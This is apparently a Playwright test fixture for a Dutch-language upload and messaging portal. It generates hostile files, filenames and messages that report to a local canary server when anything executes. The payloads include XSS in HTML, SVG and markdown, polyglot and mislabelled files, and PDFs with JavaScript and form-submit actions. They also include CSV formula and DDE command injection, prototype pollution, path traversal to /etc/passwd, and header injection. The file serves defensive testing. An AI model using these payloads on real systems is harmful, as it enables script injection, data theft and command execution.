/** Files and texts that try to run something, and the canary that reports when one does. */
import type { BrowserContext } from "@playwright/test";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { pdf, png, type Upload } from "./files.ts";

const PDF_ALERT = "alert of a PDF";

/**
 * Listens for what hostile content would do: call a function of the page, open a dialog, or request an address of the
 * attacker.
 */
export class Canary {
  readonly #fired: string[] = [];
  readonly #server = createServer((request, response) => {
    this.#fired.push(`asked for ${request.url ?? ""}`);
    response.setHeader("Access-Control-Allow-Origin", "*").end();
  });

  static async create(): Promise<Canary> {
    const canary = new Canary();
    canary.#server.listen(0, "127.0.0.1");
    await once(canary.#server, "listening");
    return canary;
  }

  /** The attacker's address, without a trailing slash. */
  get origin(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  /** Script that fires in every way at once; `name` identifies it in the report. */
  script(name: string): string {
    return `self.canary&&canary('${name}');fetch('${this.origin}/${name}');new Image().src='${this.origin}/${name}'`;
  }

  async watch(context: BrowserContext): Promise<void> {
    await context.exposeFunction("canary", (name: string) => void this.#fired.push(`ran ${name}`));
    context.on("dialog", (dialog) => {
      this.#fired.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
  }

  /**
   * What fired since the last call. A browser's own PDF reader may show the alert of a PDF: it runs in the reader,
   * which has access to neither page nor network. The portal's preview shows none.
   */
  fired({ reader }: { reader?: "of the browser" } = {}): string[] {
    return this.#fired.splice(0).filter((one) => reader === undefined || one !== `dialog ${PDF_ALERT}`);
  }

  async stop(): Promise<void> {
    this.#server.close();
    this.#server.closeAllConnections();
    await once(this.#server, "close");
  }
}

const bytes = (text: string) => Buffer.from(text, "latin1");
const file = (name: string, buffer: Buffer, mimeType = "application/octet-stream"): Upload => ({
  name,
  mimeType,
  buffer,
});

/**
 * Files that the portal must refuse, whatever their name and claimed type: their bytes are a page, a drawing or a
 * program.
 */
export function refusedFiles(canary: Canary): Upload[] {
  const page = `<!doctype html><script>${canary.script("page")}</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${canary.script("svg")}"><script>${canary.script("svg")}</script></svg>`;
  return [
    file("pagina.html", bytes(page), "text/html"),
    file("foto.png", bytes(page), "image/png"),
    file("brief.txt", bytes(`\r\n\t ${page}`), "text/plain"),
    file("lijst.csv", bytes(`\xEF\xBB\xBF${page}`), "text/csv"),
    file("opmerking.txt", bytes(`<!-- -->${page}`), "text/plain"),
    file("tekening.svg", bytes(svg), "image/svg+xml"),
    file("tekening.png", bytes(svg), "image/png"),
    file("tekening.txt", bytes(`<?xml version="1.0"?>${svg}`), "text/plain"),
    file("tekening.json", bytes(`\n\n${svg}`), "application/json"),
    file(
      "stijl.xml",
      bytes(`<?xml version="1.0"?><?xml-stylesheet href="${canary.origin}/xslt" type="text/xsl"?><a/>`),
      "application/xml",
    ),
    file("script.js", bytes(canary.script("js")), "text/javascript"),
    file("factuur.pdf.exe", bytes("MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0"), "application/pdf"),
    file("module.wasm", bytes("\0asm\x01\0\0\0"), "application/wasm"),
    file("film.png", bytes("\x1A\x45\xDF\xA3\x9Fwebm"), "image/png"),
  ];
}

/** A PDF with these further entries in its catalog and these further objects; object 90 and up are free. */
function trappedPdf(name: string, catalog: string, objects: string[] = []): Upload {
  const harmless = pdf(name, 1).buffer.toString("latin1");
  // An update appended to the file, as the format allows: the later object 1 counts.
  const start = Number(/startxref\n(\d+)/.exec(harmless)?.[1]);
  let text = harmless;
  const entries: [number, number][] = [];
  for (const object of [`1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`, ...objects]) {
    entries.push([Number.parseInt(object), text.length]);
    text += object;
  }
  const at = text.length;
  text += `xref\n${entries.map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`).join("")}`;
  text += `trailer\n<< /Size 100 /Root 1 0 R /Prev ${start} >>\nstartxref\n${at}\n%%EOF\n`;
  return { name, mimeType: "application/pdf", buffer: Buffer.from(text, "latin1") };
}

/**
 * Files that the portal accepts because they are what they claim, and that must stay inert wherever they are opened.
 */
export function trappedFiles(canary: Canary): Upload[] {
  const markup = `<script>${canary.script("markup")}</script><img src=x onerror="${canary.script("markup")}">`;
  const picture = png("foto.png").buffer;
  const font = String.raw`<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [0.1 0 0 0.1 0 (1\); canary\('font'\); //)] /FirstChar 65 /LastChar 66 /Widths [500 500] >>`;
  return [
    // A GIF that is also a script, and claims to be a page.
    file("kwaad.html", bytes(`GIF89a/*\x01\0\x80\0\0*/=1;${canary.script("gif")}`), "text/html"),
    file("staart.png", Buffer.concat([picture, bytes(markup)]), "text/html"),
    file("platte tekst.txt", bytes(`Geachte heer,\n${"tekst ".repeat(400)}\n${markup}`), "text/html"),
    file(
      "notitie.md",
      bytes(`Hallo [klik](javascript:${encodeURIComponent(canary.script("md"))}) ${"x ".repeat(600)}${markup}`),
      "text/html",
    ),
    file(
      "formules.csv",
      bytes(`naam;bedrag\n=HYPERLINK("${canary.origin}/csv";"klik");=cmd|' /C calc'!A0\n`),
      "text/csv",
    ),
    file(
      "gegevens.json",
      bytes(`{"__proto__":{"canary":1},"text":"${markup.replaceAll('"', String.raw`\"`)}"}`),
      "application/json",
    ),
    file(
      "bericht.eml",
      bytes(`From: a@klant-a.example\r\nContent-Type: text/html\r\n\r\n${"x ".repeat(600)}${markup}`),
      "message/rfc822",
    ),
    trappedPdf(
      "opent.pdf",
      `/OpenAction << /S /JavaScript /JS (app.alert\\("${PDF_ALERT}"\\); app.launchURL\\("${canary.origin}/pdf-js"\\);) >> /AA << /WC << /S /JavaScript /JS (app.alert\\("${PDF_ALERT}"\\)) >> >>`,
    ),
    trappedPdf("stuurt.pdf", `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${canary.origin}/pdf-form) >> >>`),
    trappedPdf("lettertype.pdf", "", [`3 0 obj\n${font}\nendobj\n`]),
  ];
}

/** File names that try to escape from their folder. */
export function hostileNames(canary: Canary): string[] {
  return [
    `"><img src=x onerror=canary('name')>.png`,
    `'; filename*=UTF-8''kwaad.html; x='.png`,
    "regel\r\nSet-Cookie: kwaad=1\r\n\r\n.png",
    "../../../../etc/passwd.png",
    String.raw`..\..\windows\system32\drivers.png`,
    "rekening\u202Egnp.exe.png",
    `${canary.origin}/name.png`,
    `${"lang ".repeat(80)}.png`,
  ];
}

/** Messages that try to be more than text. */
export function hostileTexts(canary: Canary): string[] {
  const run = canary.script("text");
  return [
    `<script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<svg/onload="${run}">`,
    `<iframe srcdoc="&lt;script>${run}&lt;/script>"></iframe>`,
    `[klik](javascript:${encodeURIComponent(run)})`,
    `[klik](data:text/html,${encodeURIComponent(`<script>${run}</script>`)})`,
    `[klik](\u0001javascript:${encodeURIComponent(run)})`,
    `![plaatje](${canary.origin}/beacon.png)`,
    `<${canary.origin}/autolink> **<b onclick="${run}">vet</b>**`,
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
    `&lt;script&gt;${run}&lt;/script&gt; {{constructor.constructor("${run.replaceAll('"', "'")}")()}}`,
    `<style>*{background:url(${canary.origin}/style)}</style><link rel=stylesheet href=${canary.origin}/link>`,
  ];
}
